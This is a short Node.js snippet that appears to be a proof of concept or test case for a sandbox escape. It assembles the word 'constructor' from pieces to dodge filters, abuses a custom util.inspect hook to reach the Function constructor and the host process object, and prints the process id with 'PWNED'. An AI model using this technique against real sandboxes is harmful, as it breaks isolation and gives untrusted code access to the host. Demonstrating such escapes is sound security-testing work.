const w = ['con', 'structor'].join('');
const util = require('util');
const f = () => 1;
Object.assign(f, { [util.inspect.custom]: (depth, options, show) => String(show[w]('return process')().pid) });
console.log('PWNED', f);
